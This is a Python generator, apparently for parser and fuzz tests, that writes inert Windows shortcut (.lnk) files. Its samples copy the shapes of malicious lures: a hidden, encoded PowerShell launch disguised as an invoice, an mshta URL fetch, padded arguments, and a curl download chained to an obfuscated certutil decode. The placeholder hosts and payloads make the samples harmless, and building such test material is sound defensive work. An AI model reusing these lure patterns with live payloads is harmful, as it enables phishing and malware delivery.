#!/usr/bin/env python3
"""gen-lnk.py - write inert Windows shortcut (.lnk, MS-SHLLINK) test files.

usage: gen-lnk.py OUTDIR

Every file is built byte by byte here (no Windows, no pylnk): the header
with its CLSID, a LinkTargetIDList of shell items, LinkInfo, StringData in
UTF-16LE or CP932, and ExtraData blocks.  The targets and arguments are the
shapes LNK lures use but do nothing: `cmd.exe /c echo test`, `-enc AAAA`,
URLs on 192.0.2.x (TEST-NET-1) and .invalid hosts.  Besides well-formed
shortcuts there are truncated ones and ones whose size fields lie, for the
parser's tests and as seeds of tests/fuzz/corpus/lnk.  Output is
deterministic: the same bytes on every run.  Python 3 standard library only.
"""

import os
import struct
import sys

CLSID = bytes.fromhex("0114020000000000c000000000000046")
MY_COMPUTER = bytes.fromhex("e04fd020ea3a6910a2d808002b30309d")

HAS_IDLIST, HAS_LINK_INFO, HAS_NAME = 0x1, 0x2, 0x4
IS_UNICODE, HAS_EXP_STRING = 0x80, 0x200
SYS32 = "C:\\Windows\\System32\\"
PS_PATH = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"


def u16(v):
    return struct.pack("<H", v)


def u32(v):
    return struct.pack("<I", v)


def utf16(s):
    return s.encode("utf-16-le")


def header(flags, show=1):
    h = u32(0x4C) + CLSID + u32(flags) + u32(0x20) + bytes(24)
    h += u32(1234) + u32(0) + u32(show) + bytes(12)
    assert len(h) == 0x4C
    return h


def file_item(name, is_dir):
    """A file entry shell item with a version 9 0xBEEF0004 long name."""
    body = bytes([0x31 if is_dir else 0x32, 0]) + bytes(8)
    body += u16(0x10 if is_dir else 0x20) + b"SHORT~1\0"
    if (2 + len(body)) % 2:
        body += b"\0"
    ext_off = 2 + len(body)
    ext = u16(9) + u32(0xBEEF0004) + bytes(4 + 4 + 2 + 2 + 8 + 8 + 2 + 4 + 4)
    ext += utf16(name) + b"\0\0" + u16(ext_off)
    ext = u16(2 + len(ext)) + ext
    item = body + ext
    return u16(2 + len(item)) + item


def idlist(volume, names):
    items = u16(0x14) + b"\x1f\x50" + MY_COMPUTER
    if volume:
        v = b"\x2f" + volume.encode("ascii")
        items += u16(0x19) + v + bytes(0x17 - len(v))
    for i, n in enumerate(names):
        items += file_item(n, i + 1 < len(names))
    items += u16(0)
    return u16(len(items)) + items


def link_info(lbp=None, net=None, lbp_unicode=None):
    """LinkInfo with LocalBasePath (CP932) and/or a network share."""
    hdr = 0x24 if lbp_unicode else 0x1C
    flags = (1 if lbp else 0) | (2 if net else 0)
    offs = {"vol": 0, "lbp": 0, "net": 0, "cps": 0, "ulbp": 0, "ucps": 0}
    tail = b""
    if lbp:
        offs["vol"] = hdr + len(tail)
        tail += u32(0x11) + u32(3) + u32(0x1234ABCD) + u32(0x10) + b"\0"
        offs["lbp"] = hdr + len(tail)
        tail += lbp.encode("cp932") + b"\0"
    if net:
        offs["net"] = hdr + len(tail)
        n = net.encode("cp932") + b"\0"
        tail += u32(0x14 + len(n)) + u32(0) + u32(0x14) + u32(0)
        tail += u32(0x20000) + n
    offs["cps"] = hdr + len(tail)
    tail += b"\0"
    if lbp_unicode:
        offs["ulbp"] = hdr + len(tail)
        tail += utf16(lbp_unicode) + b"\0\0"
    head = u32(hdr) + u32(flags) + u32(offs["vol"]) + u32(offs["lbp"])
    head += u32(offs["net"]) + u32(offs["cps"])
    if hdr == 0x24:
        head += u32(offs["ulbp"]) + u32(offs["ucps"])
    return u32(4 + len(head) + len(tail)) + head + tail


def string_data(strings, unicode):
    """StringData: NAME, RELATIVE_PATH, WORKING_DIR, ARGUMENTS, ICON."""
    out, flags = b"", 0
    for i, s in enumerate(strings):
        if s is None:
            continue
        flags |= HAS_NAME << i
        if unicode:
            b = utf16(s)
            out += u16(len(b) // 2) + b
        else:
            b = s.encode("cp932")
            out += u16(len(b)) + b
    return out, flags


def env_block(sig, s):
    a = s.encode("cp932")
    b = u32(0x314) + u32(sig) + a + bytes(260 - len(a)) + utf16(s)
    return b + bytes(0x314 - len(b))


def tracker_block(machine):
    b = u32(0x60) + u32(0xA0000003) + u32(0x58) + u32(0)
    b += machine.encode("ascii")
    return b + bytes(0x60 - len(b))


def shortcut(unicode=True, volume=None, items=(), lbp=None, net=None,
             lbp_unicode=None, strings=(None,) * 5, env=None, icon_env=None,
             machine=None, show=1, trailing=b""):
    flags = IS_UNICODE if unicode else 0
    body = b""
    if volume or items:
        flags |= HAS_IDLIST
        body += idlist(volume, list(items))
    if lbp or net:
        flags |= HAS_LINK_INFO
        body += link_info(lbp, net, lbp_unicode)
    sd, sflags = string_data(strings, unicode)
    flags |= sflags
    body += sd
    if env:
        flags |= HAS_EXP_STRING
        body += env_block(0xA0000001, env)
    if icon_env:
        body += env_block(0xA0000007, icon_env)
    if machine:
        body += tracker_block(machine)
    body += u32(0) + trailing
    return header(flags, show) + body


def args(a, icon=None, workdir=None, name=None):
    return (name, None, workdir, a, icon)


def samples():
    cmd_items = ("Windows", "System32", "cmd.exe")
    s = {}
    s["cmd-echo-unicode"] = shortcut(
        volume="C:\\", items=cmd_items,
        strings=args("/c echo test", SYS32 + "shell32.dll", SYS32))
    s["powershell-enc"] = shortcut(
        lbp=PS_PATH, show=7,
        strings=args("-nop -w hidden -enc AAAA",
                     "C:\\Users\\Public\\invoice.pdf,0", None, "Invoice"))
    s["mshta-url-ansi"] = shortcut(
        unicode=False, lbp=SYS32 + "mshta.exe",
        strings=args("http://192.0.2.10/a.hta"))
    s["padded-args"] = shortcut(
        env="%windir%\\system32\\cmd.exe",
        strings=args(" " * 1200 + "/c echo test"))
    s["cp932-name"] = shortcut(
        unicode=False, lbp="C:\\テスト\\請求書.txt",
        strings=args(None, name="請求書"))
    s["unicode-linkinfo"] = shortcut(lbp="C:\\x.exe",
                                     lbp_unicode="C:\\請求書\\x.exe")
    s["net-share"] = shortcut(net="\\\\192.0.2.5\\share",
                              strings=(None, "..\\share\\x.exe", None, None,
                                       None))
    s["icon-unc-tracker"] = shortcut(lbp="C:\\app\\app.exe",
                                     icon_env="\\\\192.0.2.7\\ic\\a.ico",
                                     machine="desktop-test01")
    s["curl-chain"] = shortcut(
        volume="C:\\", items=cmd_items,
        strings=args("/c curl -o %TEMP%\\a.txt https://lure.invalid/a "
                     "& c^ertutil -decode %TEMP%\\a.txt %TEMP%\\b.txt"))
    s["benign"] = shortcut(
        volume="C:\\", items=("Program Files", "App", "app.exe"),
        lbp="C:\\Program Files\\App\\app.exe",
        strings=args("--profile work", "C:\\Program Files\\App\\app.exe",
                     "C:\\Program Files\\App", "App"))
    s["appended-data"] = shortcut(lbp=SYS32 + "cmd.exe",
                                  strings=args("/c echo test"),
                                  trailing=b"MSCF" + bytes(60))
    s["header-only"] = header(0)
    return s


def damaged(good):
    """Truncated and lying variants of the well-formed samples."""
    d = {}
    ps = bytearray(good["powershell-enc"])
    d["truncated-header"] = good["benign"][:40]
    d["truncated-args"] = bytes(ps[:len(ps) - 60])
    lie = bytearray(good["cmd-echo-unicode"])
    lie[0x4C:0x4E] = u16(0xFFFF)
    d["lying-idlist-size"] = bytes(lie)
    lie = bytearray(good["cmd-echo-unicode"])
    lie[0x4E:0x50] = u16(0xFFF0)  # the first ItemID
    d["lying-item-size"] = bytes(lie)
    lie = bytearray(good["mshta-url-ansi"])
    lie[0x4C:0x50] = u32(0x7FFFFFFF)
    d["lying-linkinfo-size"] = bytes(lie)
    lie = bytearray(good["mshta-url-ansi"])
    lie[0x4C + 16:0x4C + 20] = u32(0xFFFFFFF0)  # LocalBasePathOffset
    d["lying-linkinfo-offset"] = bytes(lie)
    lie = bytearray(good["padded-args"])
    lie[0x4C:0x4E] = u16(0xFFFF)  # the argument count
    d["lying-args-count"] = bytes(lie)
    lie = bytearray(good["padded-args"])
    at = 0x4C + 2 + 2 * (1200 + len("/c echo test"))
    lie[at:at + 4] = u32(0x00FFFFFF)  # the environment block size
    d["lying-extra-size"] = bytes(lie)
    lie = bytearray(good["benign"])
    lie[4] ^= 0xFF
    d["bad-clsid"] = bytes(lie)
    return d


def main(argv):
    if len(argv) != 2:
        sys.stderr.write("usage: gen-lnk.py OUTDIR\n")
        return 2
    out = argv[1]
    os.makedirs(out, exist_ok=True)
    good = samples()
    files = dict(good)
    files.update(damaged(good))
    for name, data in sorted(files.items()):
        with open(os.path.join(out, name + ".lnk"), "wb") as f:
            f.write(data)
    print("gen-lnk: wrote %d files to %s" % (len(files), out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
